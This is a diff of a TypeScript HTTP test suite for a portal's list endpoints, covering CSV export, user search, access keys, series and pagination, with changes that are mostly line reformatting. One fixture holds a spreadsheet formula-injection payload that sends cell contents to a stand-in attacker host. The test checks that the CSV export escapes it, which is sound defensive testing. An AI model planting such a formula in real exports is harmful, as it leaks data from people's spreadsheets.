@@ -17,7 +17,9 @@ type Item = Record<string, unknown>;
 const naughty = '=HYPERLINK("http://evil.example?x="&A1,"a")';
 
 describe('portal: lists over HTTP', () => {
-  const bought = Array.from({ length: 7 }, (_, i) => purchase(i + 1, { ucc: i === 3 ? naughty : 'c' }));
+  const bought = Array.from({ length: 7 }, (_, i) =>
+    purchase(i + 1, { ucc: i === 3 ? naughty : 'c' }),
+  );
   let portal: TestPortal;
   before(async () => {
     portal = await startTestPortal();
@@ -83,9 +85,7 @@ describe('portal: lists over HTTP', () => {
       const text = await answer.text();
       const [head, ...lines] = text.trimEnd().split('\r\n');
       expect(head?.split(',').slice(0, 2)).to.deep.equal(['eventId', 'eventType']);
-      expect(lines.map((line) => line.slice(0, 36))).to.deep.equal(
-        [7, 6, 5, 4, 3, 2, 1].map(uuid),
-      );
+      expect(lines.map((line) => line.slice(0, 36))).to.deep.equal([7, 6, 5, 4, 3, 2, 1].map(uuid));
       expect(lines[3]).to.contain(`"'${naughty.replaceAll('"', '""')}"`);
       expect(lines[0]).to.contain(',EUR,4900,');
     }
@@ -94,9 +94,9 @@ describe('portal: lists over HTTP', () => {
       422,
       'application/problem+json',
     ]);
-    expect((await ask('events?format=json', { accept: 'text/csv' })).headers.get('content-type')).to.equal(
-      'application/json',
-    );
+    expect(
+      (await ask('events?format=json', { accept: 'text/csv' })).headers.get('content-type'),
+    ).to.equal('application/json');
   });
 
   it('find users by the beginning of id, e-mail, name and last name, and nobody erased', async () => {
@@ -106,7 +106,8 @@ describe('portal: lists over HTTP', () => {
     expect(await users('q=cara.a')).to.deep.equal(['cara']);
     expect(await users(`q=${encodeURIComponent('ÅNG')}`)).to.deep.equal(['cara']);
     expect(await users('q=c&limit=1')).to.deep.equal(['cara']);
-    for (const q of ['erik', 'gone', 'example', 'b%25']) expect(await users(`q=${q}`)).to.deep.equal([]);
+    for (const q of ['erik', 'gone', 'example', 'b%25'])
+      expect(await users(`q=${q}`)).to.deep.equal([]);
     expect(await users('q=zo')).to.deep.equal(['zoe']);
   });
 
@@ -123,7 +124,10 @@ describe('portal: lists over HTTP', () => {
   it('name access keys, and who made them', async () => {
     const made = await portal.call('POST', '/api/tenants/acme/access-keys', { name: 'backend' });
     await portal.call('POST', '/api/tenants/acme/access-keys');
-    await portal.call('DELETE', `/api/tenants/acme/access-keys/${String(made.body['accessKeyId'])}`);
+    await portal.call(
+      'DELETE',
+      `/api/tenants/acme/access-keys/${String(made.body['accessKeyId'])}`,
+    );
     const { body } = await portal.call('GET', '/api/tenants/acme/access-keys');
     const keys = body['accessKeys'] as Item[];
     expect(keys.map(({ name, status, createdBy }) => [name, status, createdBy])).to.deep.equal([
@@ -144,7 +148,9 @@ describe('portal: lists over HTTP', () => {
     ]) {
       expect((await get(`series${query}`)).status, query).to.equal(422);
     }
-    const { body } = await get('series?of=events&from=2026-03-01T00:00:00Z&to=2026-03-03T00:00:00Z');
+    const { body } = await get(
+      'series?of=events&from=2026-03-01T00:00:00Z&to=2026-03-03T00:00:00Z',
+    );
     const [first, second] = body['days'] as Item[];
     expect(second).to.deep.equal({ day: '2026-03-02', count: 0, parts: {} });
     expect(first).to.deep.include({ day: '2026-03-01' });
@@ -172,7 +178,7 @@ describe('portal: lists over HTTP', () => {
 
   async function whole(list: string, query: string, id: string): Promise<unknown[]> {
     const found: unknown[] = [];
-    for (let cursor = ''; ; ) {
+    for (let cursor = ''; ;) {
       const { body } = await get(`${list}?${query}${cursor}`);
       found.push(...(body[list] as Item[]).map((item) => item[id]));
       if (body['nextCursor'] === null) return found;
